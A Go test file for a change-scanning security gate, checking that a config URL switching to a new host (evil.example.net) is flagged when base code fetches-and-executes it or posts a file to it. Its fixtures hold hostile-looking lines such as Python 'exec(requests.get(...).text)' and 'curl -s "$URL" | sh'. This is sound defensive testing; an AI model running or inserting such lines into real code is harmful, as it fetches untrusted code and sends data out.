package static_test

import (
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/static"
)

// movedAddress scans a change of settings in which code of the base has its address.
func movedAddress(t *testing.T, name, was, is, program, code string) gate.Severity {
	t.Helper()
	rest := fstest.MapFS{program: file(code), "README.md": file("see https://good.example.com/")}
	base, head := fstest.MapFS{name: file(was)}, fstest.MapFS{name: file(is)}
	for p, f := range rest {
		base[p], head[p] = f, f
	}
	lang, role := byName(name, 0, nil)
	target := &gate.Target{Path: name, Language: lang, Role: role, Kind: gate.ChangeModified, Size: int64(len(is)), Mode: 0o644}
	if was == is {
		target.Lines = gate.OnlyLines()
	}
	c := &gate.Change{Head: head, Base: base, Targets: []*gate.Target{target}, Files: []string{name, program, "README.md"}}
	found := gate.NewFindings(c.Targets, nil)
	rules, err := ownRules()
	if err != nil {
		t.Fatal(err)
	}
	s, err := static.New(static.Options{Policy: gate.DefaultPolicy(), Rules: rules, Classify: byName})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Run(t.Context(), c, found); err != nil {
		t.Fatal(err)
	}
	worst := gate.SeverityUnknown
	for _, f := range found.Of(name) {
		worst = max(worst, f.Severity)
	}
	return worst
}

func TestAnAddressThatMovesToANewHostIsSuspiciousWhereCodeOfTheBaseUsesIt(t *testing.T) {
	const was, is = `{"u": "https://good.example.com/x"}`, `{"u": "https://evil.example.net/x"}`
	tests := map[string]struct {
		was, is, program, code string
		want                   gate.Severity
	}{
		"it runs what it fetches":              {was, is, "a.py", "import json,requests\nexec(requests.get(json.load(open(\"c.json\"))[\"u\"]).text)\n", gate.SeveritySuspicious},
		"it sends to it":                       {was, is, "a.py", "import json,requests\nu = json.load(open(\"c.json\"))[\"u\"]\nrequests.post(u, data=open(\"c.csv\").read())\n", gate.SeveritySuspicious},
		"it reads it from the environment":     {was, is, "a.py", "import os,requests\nrequests.post(os.environ[\"U\"], data=open(\"c.csv\").read())\n", gate.SeveritySuspicious},
		"a script fetches and runs":            {`{"URL": "https://good.example.com/x"}`, `{"URL": "https://evil.example.net/x"}`, "a.sh", "curl -s \"$URL\" | sh\n", gate.SeveritySuspicious},
		"it only reads what is there":          {was, is, "a.py", "import json,requests\nprint(requests.get(json.load(open(\"c.json\"))[\"u\"]).json())\n", gate.SeverityUnknown},
		"the host is one that the base names":  {`{"u": "https://x.example.com/x"}`, was, "a.py", "import json,requests\nexec(requests.get(json.load(open(\"c.json\"))[\"u\"]).text)\n", gate.SeverityUnknown},
		"the code reads another key":           {was, is, "a.py", "import json,requests\nexec(requests.get(json.load(open(\"c.json\"))[\"v\"]).text)\n", gate.SeverityUnknown},
		"the code has nothing to do with it":   {was, is, "a.py", "import requests\nrequests.post(reply.u, data=open(\"c.csv\").read())\n", gate.SeverityUnknown},
		"the change leaves the line untouched": {is, is, "a.py", "import json,requests\nrequests.post(json.load(open(\"c.json\"))[\"u\"], data=x)\n", gate.SeverityUnknown},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if got := movedAddress(t, "c.json", tt.was, tt.is, tt.program, tt.code); got != tt.want {
				t.Errorf("got %v, want %v", got, tt.want)
			}
		})
	}
}
